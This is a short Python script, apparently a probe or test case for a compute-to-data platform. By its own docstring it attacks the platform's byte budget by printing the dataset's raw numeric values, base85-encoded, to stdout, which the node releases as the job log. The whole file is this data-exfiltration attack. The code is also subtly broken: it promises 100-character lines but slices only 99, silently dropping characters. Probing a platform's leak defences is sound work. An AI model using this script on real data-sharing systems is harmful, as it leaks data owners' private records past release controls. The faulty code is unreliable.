#!/usr/bin/env python3
"""Attack on the byte budget through the logs: prints `bytes` characters (parameter, default 5 000) of the numeric
columns as base85 float64 to stdout, in lines of 100, and writes no output file. The node keeps stdout as the job's
log, which is released like an output."""
import base64
import json
import os

import numpy as np

DATA_ROOT = os.environ.get("DATA_ROOT", "/data")


def dataset_path():
    """The first dataset of env DIDS (a JSON array), at <DATA_ROOT>/inputs/<did>/0."""
    did = json.loads(os.environ["DIDS"])[0]
    return os.path.join(DATA_ROOT, "inputs", did, "0")


def params():
    """The buyer's parameters (algoCustomData.json), or {}."""
    path = os.path.join(DATA_ROOT, "inputs", "algoCustomData.json")
    if not os.path.exists(path):
        return {}
    with open(path, encoding="utf-8") as file:
        return json.load(file)


size = int(params().get("bytes", 5_000))
values = np.loadtxt(dataset_path(), delimiter=",", skiprows=1, usecols=range(1, 8), dtype="float64")
text = base64.b85encode(values.tobytes()).decode("ascii")
for start in range(0, size, 100):
    print(text[start : start + 99])
